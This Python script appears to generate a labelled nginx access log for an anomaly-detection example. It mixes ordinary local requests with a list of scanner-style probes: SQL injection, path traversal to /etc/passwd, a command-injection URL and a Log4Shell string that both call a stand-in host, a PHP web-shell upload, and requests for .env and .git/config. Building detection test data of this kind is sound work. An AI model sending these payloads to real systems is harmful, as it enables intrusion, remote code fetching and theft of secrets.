"""Record the access log of a web server whose visitors are ordinary but for a few, into data/access.log.gz.

Run it where nginx, curl, wget and openssl are installed: ``python examples/record_access_log.py``. A real nginx serves the
files in docs/. Ordinary visitors, curl, wget and Python, read pages and pictures, ask for what has changed, and miss a page now
and then. The odd ones look for holes: pages of other programs, files outside the site, commands in addresses, another protocol.
The numbers of their lines are in data/access.odd.txt.
"""

import gzip
import random
import subprocess
import tempfile
import time
import urllib.error
import urllib.request
from pathlib import Path

ROOT = Path(__file__).parent.parent
DATA = Path(__file__).parent / "data"
N_VISITS = 1200
PORT = 18080
SITE = f"http://localhost:{PORT}/"
CONFIG = """
daemon off; pid {folder}/pid; error_log {folder}/error.log;
events {{}}
http {{
  access_log {folder}/access.log;
  types {{ text/html html; text/plain md; image/png png; image/svg+xml svg; }}
  server {{ listen 127.0.0.1:{port}; root {root}/docs; location /health {{ return 200 ok; }} }}
}}
"""
ODD = [
    ["wp-login.php"],
    [".env"],
    [".git/config"],
    ["-A", "sqlmap/1.7", "guide/cli.md?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"],
    ["--path-as-is", "images/..%2f..%2f..%2fetc/passwd"],
    ["cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget+http://198.51.100.7/x)"],
    ["-A", "${jndi:ldap://198.51.100.7:1389/a}", ""],
    ["-X", "PROPFIND", "-H", "Depth: 1", ""],
    ["-d", "<?php system($_GET['c']); ?>", "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"],
    ["-A", "masscan/1.3", "phpmyadmin/index.php?lang=en"],
    ["TLS"],
]


def curl(*options):
    """Make a request."""
    *more, path = options
    subprocess.run(["curl", "-s", "-o", "/dev/null", *more, SITE + path], check=False)


def read_in_python(path, since=None):
    """Make a request as scripts do, perhaps for what has changed since."""
    request = urllib.request.Request(SITE + path, headers={"If-Modified-Since": since} if since else {})  # noqa: S310
    try:
        with urllib.request.urlopen(request) as answer:  # noqa: S310
            answer.read()
    except urllib.error.HTTPError:
        pass


def visit(rng, paths):
    """Be an ordinary visitor for one page."""
    path = paths[min(int(rng.paretovariate(0.9)) - 1, len(paths) - 1)]  # a few pages have most of the visitors
    kind = rng.random()
    if kind < 0.35:
        curl(path)
    elif kind < 0.4:
        curl("-I", path)
    elif kind < 0.5:
        curl("health")
    elif kind < 0.7:
        subprocess.run(["wget", "-q", "-O", "/dev/null", SITE + path], check=False)
    elif kind < 0.8:
        read_in_python(path, since="Wed, 01 Jan 2031 00:00:00 GMT")
    elif kind < 0.83:
        read_in_python(path.replace(".md", ".html"))
    else:
        read_in_python(path)


def attack(options):
    """Make an odd request, by curl or by another program."""
    if options == ["TLS"]:
        handshake = ["openssl", "s_client", "-connect", f"localhost:{PORT}"]
        subprocess.run(handshake, check=False, capture_output=True, stdin=subprocess.DEVNULL)
    else:
        curl(*options)


def n_lines(log):
    """Return how many requests have been logged, once none is on its way."""
    time.sleep(0.2)
    return len(log.read_bytes().splitlines())


def main():
    """Record the log, and which of its lines are odd."""
    rng = random.Random(0)
    pages = sorted(path for path in (ROOT / "docs").rglob("*.*") if path.suffix in (".md", ".svg", ".png"))
    paths = [str(path.relative_to(ROOT / "docs")) for path in rng.sample(pages, len(pages))]
    odd_lines, acts = [], rng.sample(range(50, N_VISITS), len(ODD))
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        log, errors, config = folder / "access.log", str(folder / "error.log"), folder / "nginx.conf"
        config.write_text(CONFIG.format(folder=folder, port=PORT, root=ROOT))
        server = subprocess.Popen(["/usr/sbin/nginx", "-e", errors, "-c", str(config)])
        try:
            while not log.exists() or not log.stat().st_size:
                curl("health")
                time.sleep(0.1)
            for number in range(N_VISITS):
                visit(rng, paths)
                if number in acts:
                    before = n_lines(log)
                    attack(ODD[acts.index(number)])
                    odd_lines += range(before + 1, n_lines(log) + 1)
        finally:
            server.terminate()
            server.wait()
        with (DATA / "access.log.gz").open("wb") as raw, gzip.GzipFile("", "wb", fileobj=raw, mtime=0) as packed:
            packed.write(log.read_bytes())
    (DATA / "access.odd.txt").write_text("".join(f"{number}\n" for number in odd_lines))
    print(f"{N_VISITS} visits, {len(odd_lines)} odd ones")


if __name__ == "__main__":
    main()
